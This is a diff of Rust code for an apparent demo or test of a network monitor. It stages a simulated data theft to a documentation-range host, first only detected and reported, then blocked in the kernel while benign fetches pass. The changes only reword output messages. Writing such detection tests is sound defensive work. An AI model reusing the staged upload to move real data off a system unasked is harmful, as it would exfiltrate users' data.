@@ -50,11 +50,11 @@ fn observe(scene: &Scene, program: &Path) -> Result<()> {
     browse(scene, &mut watch)?;
 
     text::say(&format!(
-        "\nNow {} leave for {HOST}, which the client never spoke to.",
+        "\nNow {} leave for {HOST}, a host that is new to the client.",
         text::bytes(STOLEN_BYTES)
     ));
     let mut upload = steal(scene, HOST, "first")?;
-    watch.wait(&format!("-> {HOST}:{DROP_PORT}"), ALERT).context("no alert on the theft")?;
+    watch.wait(&format!("-> {HOST}:{DROP_PORT}"), ALERT).context("no alert about the upload")?;
     let status = upload.wait(UPLOAD)?;
     ensure!(status.success(), "the upload failed: {}", upload.output());
     let received = scene.received("first")?;
@@ -63,7 +63,7 @@ fn observe(scene: &Scene, program: &Path) -> Result<()> {
     only_about(&watch, HOST)?;
     ensure!(received == STOLEN_BYTES, "{received} bytes arrived where nothing was to be blocked");
     text::say(&format!(
-        "The receiver counts {}: the theft was told, not stopped. {} had left before the alert.",
+        "The receiver counts {}: the agent reported the upload and did not stop it. {} had left before the alert.",
         text::bytes(received),
         watch.leaked_before_alert()?
     ));
@@ -72,17 +72,20 @@ fn observe(scene: &Scene, program: &Path) -> Result<()> {
 
 fn block(scene: &Scene, program: &Path) -> Result<()> {
     const HOST: &str = "198.51.100.77";
-    text::heading("Act 2: block. The same, and the flow that steals is dropped in the kernel.");
+    text::heading("Act 2: block. The same upload again. The kernel drops its flow.");
     let mut watch = Watch::start(program, scene, "block")?;
     browse(scene, &mut watch)?;
 
     text::say(&format!("\nNow {} leave for {HOST}.", text::bytes(STOLEN_BYTES)));
     let mut upload = steal(scene, HOST, "second")?;
-    watch.wait("blocked, after", ALERT).context("the theft was not blocked")?;
+    watch.wait("blocked, after", ALERT).context("the upload was not blocked")?;
     let pages = ["http://news.example/page-120000", "http://www.example/picture-310000"];
     let fetched = scene.fetch(&pages).context("benign traffic did not pass")?;
     watch.show();
-    text::say(&format!("Meanwhile the client goes on reading: {} came.", text::bytes(fetched)));
+    text::say(&format!(
+        "Meanwhile the client continues to read: {} arrived.",
+        text::bytes(fetched)
+    ));
     let status = upload.wait(UPLOAD)?;
     let received = scene.received("second")?;
     watch.show();
